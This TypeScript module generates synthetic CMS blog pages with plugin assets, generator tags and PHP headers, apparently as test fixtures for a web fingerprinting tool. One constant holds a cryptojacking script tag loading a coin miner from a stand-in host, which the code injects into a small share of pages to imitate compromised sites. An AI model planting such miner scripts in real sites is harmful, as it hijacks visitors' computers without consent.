/** A site in WordPress, Drupal, Joomla or TYPO3: posts one below the other, with the marks the system leaves. */
import { draw, found } from '../products/recognise.ts';
import type { Scene } from '../services/service.ts';
import { htmlPage, type Page } from '../web/page.ts';
import { drawTrackers } from '../web/trackers.ts';
import { chooser } from '../weighted.ts';
import { drawContacts, drawnIcon, drawSections, footer, image, navigation } from './pieces.ts';

const chooseSystem = chooser([
  [80, 'wordpress'],
  [8, 'drupal'],
  [8, 'joomla'],
  [4, 'typo3'],
]);

const PLUGINS = [
  'contact-form-7',
  'elementor',
  'yoast-seo',
  'classic-editor',
  'akismet',
  'jetpack',
  'forminator',
  'ultimate-member',
  'wpforms-lite',
  'really-simple-ssl',
  'bne-testimonials',
  'harbour-slider',
];

/** Sites that were broken into make their visitors dig for coins. */
const MINER = '<script src="https://coinhive.example/lib/coinhive.min.js"></script>\n';

export function blog(scene: Scene): Page {
  const { random, prose, hostname } = scene;
  const system = draw(random, chooseSystem(random));
  const php = draw(random, 'php');
  const tracked = drawTrackers(random);
  const contact = drawContacts(scene);
  const isWordPress = system.product.name === 'wordpress';
  const plugins = isWordPress ? random.some(PLUGINS, 0.22) : [];
  const assets = isWordPress
    ? `<link rel="stylesheet" href="https://${hostname}/wp-content/themes/${random.pick(['twentytwentyfour', 'astra', 'quay', 'divi'])}/style.css?ver=${system.version}">\n` +
      plugins
        .map(
          (name) =>
            `<script src="https://${hostname}/wp-content/plugins/${name}/assets/main.js?ver=${random.between(1, 9)}.${random.below(10)}"></script>\n`,
        )
        .join('') +
      `<link rel="https://api.w.org/" href="https://${hostname}/wp-json/">\n`
    : `<link rel="stylesheet" href="/${system.product.name}/assets/css/site.css">\n`;
  let posts = '';
  for (let count = drawSections(scene, 1.5); count > 0; count--) {
    posts +=
      `<article id="post-${random.below(9_000)}" class="post type-post status-publish hentry">\n<h2 class="entry-title"><a href="/${random.letters(8)}/">${prose.heading(random)}</a></h2>\n` +
      `${image(random)}<div class="entry-content"><p>${prose.paragraph(random)}</p></div>\n</article>\n`;
  }
  const name = prose.heading(random);
  const tellsPhp = random.chance(0.4);
  return {
    ...htmlPage({
      language: prose.language,
      title: random.chance(0.5) ? `${name} | ${prose.language.title.news}` : name,
      ...(random.chance(0.5) ? { description: prose.sentence(random) } : {}),
      meta: [`<meta name="generator" content="${system.product.fullname} ${system.version}">`],
      head: `${assets}${tracked?.script ?? ''}${random.chance(0.004) ? MINER : ''}`,
      main: `${navigation(scene)}\n<div id="content" class="site-content">\n${posts}</div>\n${contact?.html ?? ''}${footer(scene, name)}`,
    }),
    ...(tellsPhp ? { headers: { x_powered_by: `PHP/${php.version}` } } : {}),
    found: [system, ...(tellsPhp ? [php] : [found('php')])],
    ...drawnIcon(random),
    ...(contact === undefined ? {} : { contacts: contact.contacts }),
    ...(tracked === undefined ? {} : { tracker: tracked.tracker }),
  };
}
